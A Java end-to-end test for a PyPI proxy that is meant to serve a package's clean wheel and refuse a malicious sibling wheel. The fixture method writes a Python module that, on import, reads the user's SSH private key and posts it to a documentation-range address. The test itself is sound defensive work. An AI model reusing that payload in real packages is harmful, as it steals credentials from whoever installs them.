package dev.airlock.proxy.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.airlock.testing.Requirements;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * One PyPI release, two files: the real {@code py3-none-any} wheel from the local mirror and a
 * {@code manylinux} wheel of the same version whose module steals SSH keys at import (a harmless
 * stand-in: it aims at a documentation-only address and only ever runs in the sandbox). Each file
 * is judged on its own: the clean one is served, the malicious one refused.
 */
@Timeout(900)
class PerFileThroughAirlockTest {
    private static final String PROJECT = "blinker";

    @TempDir
    Path work;

    @Test
    void aReleaseWithACleanPureWheelAndAMaliciousPlatformWheelServesTheCleanOneAndRefusesTheOther() throws Exception {
        Requirements.require(Requirements.commandWorks("docker", "info"), "a Docker engine (.ci/setup-docker.sh)");
        Requirements.require(!MirrorIndex.localMirrors().isEmpty(), "a local PyPI mirror (pip config list)");
        try (MirrorIndex mirror = MirrorIndex.start()) {
            Requirements.require(mirror.addFromMirror(PROJECT), PROJECT + " in the local PyPI mirror");
            MirrorIndex.IndexFile clean = mirror.projects().get(PROJECT).get(0);
            assertTrue(clean.filename().endsWith("-py3-none-any.whl"), clean.filename());
            String version = clean.filename().split("-")[1];
            String evilName = PROJECT + "-" + version + "-cp311-cp311-manylinux_2_17_x86_64.whl";
            Path evil = Files.write(work.resolve(evilName), maliciousWheel(version));
            mirror.add(PROJECT, evil, clean.uploaded().plusSeconds(60));

            try (AirlockProcess airlock = AirlockProcess.start(work, work.resolve("data"), Map.of(),
                    "--pypi-upstream", mirror.simpleUrl(), "--pypi-file-hosts", "127.0.0.1")) {
                JsonNode page = airlock.simpleJson(PROJECT);
                String cleanUrl = null;
                String evilUrl = null;
                for (JsonNode f : page.path("files")) {
                    if (f.path("filename").asText().equals(clean.filename())) {
                        cleanUrl = f.path("url").asText();
                    }
                }
                assertTrue(cleanUrl != null, page.toString());
                evilUrl = cleanUrl.replace(clean.filename(), evilName);
                String base = "http://127.0.0.1:";
                String cleanPath = cleanUrl.substring(cleanUrl.indexOf('/', base.length()));
                String evilPath = evilUrl.substring(evilUrl.indexOf('/', base.length()));

                HttpResponse<String> good = airlock.get(cleanPath);
                assertEquals(200, good.statusCode(), good.body());
                HttpResponse<String> bad = airlock.get(evilPath);
                assertEquals(403, bad.statusCode(), bad.body());
                String reason = bad.headers().firstValue("X-Airlock-Reason").orElse("");
                assertFalse(reason.isEmpty(), "a refusal names its reason");

                // The page now lists the clean file only, and the version view shows both analyses.
                JsonNode after = airlock.simpleJson(PROJECT);
                assertEquals(1, after.path("files").size(), after.toString());
                assertEquals(clean.filename(), after.path("files").get(0).path("filename").asText());
                JsonNode view = airlock.api("packages/pypi/" + PROJECT + "/" + version);
                assertEquals("blocked", view.path("state").asText(), view.toString());
                assertEquals(2, view.path("files").size(), view.toString());
                assertTrue(view.path("reasons").get(0).path("message").asText().startsWith(evilName), view.toString());
                HttpResponse<String> again = airlock.get(cleanPath);
                assertEquals(200, again.statusCode(), "the clean file stays served while its sibling is blocked");
            }
        }
    }

    /** A wheel whose module, on import, reads the user's SSH key and posts it to a TEST-NET-2 address. */
    private static byte[] maliciousWheel(String version) {
        String distInfo = PROJECT + "-" + version + ".dist-info";
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put(PROJECT + "/__init__.py", String.join("\n",
                "import os, socket, urllib.request",
                "_key = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
                "urllib.request.urlopen('http://198.51.100.7/collect', data=(socket.gethostname() + _key).encode())",
                "").getBytes(StandardCharsets.UTF_8));
        entries.put(distInfo + "/METADATA", ("Metadata-Version: 2.1\nName: " + PROJECT + "\nVersion: " + version + "\n\n")
                .getBytes(StandardCharsets.UTF_8));
        entries.put(distInfo + "/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: cp311-cp311-manylinux_2_17_x86_64\n"
                .getBytes(StandardCharsets.UTF_8));
        return PythonFixtures.zipWheel(distInfo, entries);
    }
}
